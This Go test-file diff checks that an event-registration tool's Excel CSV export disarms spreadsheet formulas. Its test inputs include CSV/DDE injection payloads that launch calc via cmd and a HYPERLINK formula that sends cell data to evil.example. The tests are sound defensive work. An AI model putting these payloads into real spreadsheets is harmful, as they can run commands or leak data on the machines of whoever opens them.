@@ -2,6 +2,7 @@ package main
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"os"
 	"os/exec"
@@ -206,5 +207,91 @@ func TestReasonAndDeskNameAreCheckedOnTheCommandLine(t *testing.T) {
 	assertTerminalSafe(t, "the refusal of a desk name", out+stderr)
 	if !strings.Contains(stderr, "desk name") {
 		t.Errorf("the refusal does not name the field:\n%s", stderr)
+	}
+}
+
+// Item 4: formulas from names, clubs and extra fields were written
+// verbatim into the CSV Excel opens. The Excel export disarms them; plain
+// CSV and JSON keep the data.
+func TestExcelExportDisarmsFormulas(t *testing.T) {
+	if testing.Short() {
+		t.Skip("builds the binary")
+	}
+	bin := buildBinary(t)
+	db := newEventDB(t)
+	first, club, phone := "=cmd|' /C calc'!A", `=HYPERLINK("http://evil.example/?"&A1;"Klick")`, "@SUM(1+1)*cmd|' /C calc'!A0"
+	code, out, stderr := runBin(t, bin, "register", "--db", db, "--lang", "en", "--race", "10k", "--first", first, "--last", "-Müller",
+		"--born", "12.3.85", "--gender", "m", "--club", club, "--phone", "+49 171 1234567", "--extra", "emergency_phone="+phone)
+	if code != 0 {
+		t.Fatalf("register: exit %d %s %s", code, out, stderr)
+	}
+	dir := t.TempDir()
+	read := func(args ...string) []map[string]string {
+		t.Helper()
+		path := filepath.Join(dir, "out.csv")
+		if code, out, stderr := runBin(t, bin, append([]string{"export", "participants", "--db", db, "-o", path}, args...)...); code != 0 {
+			t.Fatalf("export %v: exit %d %s %s", args, code, out, stderr)
+		}
+		text, err := os.ReadFile(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(text), "\ufeff")))
+		if !bytes.HasPrefix(text, []byte("\ufeff")) {
+			r.Comma = ','
+		} else {
+			r.Comma = ';'
+		}
+		recs, err := r.ReadAll()
+		if err != nil {
+			t.Fatalf("read back %v: %v\n%s", args, err, text)
+		}
+		var rows []map[string]string
+		for _, rec := range recs[1:] {
+			m := map[string]string{}
+			for i, h := range recs[0] {
+				m[h] = rec[i]
+			}
+			rows = append(rows, m)
+		}
+		return rows
+	}
+	excel := read()
+	if len(excel) != 1 {
+		t.Fatalf("excel export: %v", excel)
+	}
+	for col, want := range map[string]string{"first": "'" + first, "last": "'-Müller", "club": "'" + club,
+		"phone": "'+49 171 1234567", "x.emergency_phone": "'" + phone, "born": "1985-03-12"} {
+		if got := excel[0][col]; got != want {
+			t.Errorf("Excel CSV %s = %q, want %q", col, got, want)
+		}
+	}
+	for col, v := range excel[0] {
+		if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
+			t.Errorf("Excel CSV %s = %q starts a formula", col, v)
+		}
+	}
+	plain := read("--excel=false")
+	for col, want := range map[string]string{"first": first, "last": "-Müller", "club": club, "x.emergency_phone": phone} {
+		if got := plain[0][col]; got != want {
+			t.Errorf("plain CSV %s = %q, want the value as stored %q", col, got, want)
+		}
+	}
+	// The start list, an Excel CSV too.
+	_, out, _ = runBin(t, bin, "export", "startlist", "--db", db, "--lang", "en")
+	if !strings.Contains(out, "'=cmd") || strings.Contains(out, ";=") || strings.Contains(out, ";\"=") {
+		t.Errorf("start list:\n%s", out)
+	}
+}
+
+func TestExcelCellKeepsNumbersAndDisarmsFormulas(t *testing.T) {
+	for in, want := range map[string]string{
+		"": "", "Müller": "Müller", "-": "-", "-5": "-5", "-0:00:05.3": "-0:00:05.3", "-1,50": "-1,50",
+		"=1+1": "'=1+1", "+49 171": "'+49 171", "+5": "'+5", "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+		"-5-": "'-5-", "-1..2": "'-1..2", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "a=1": "a=1",
+	} {
+		if got := excelCell(in); got != want {
+			t.Errorf("excelCell(%q) = %q, want %q", in, got, want)
+		}
 	}
 }
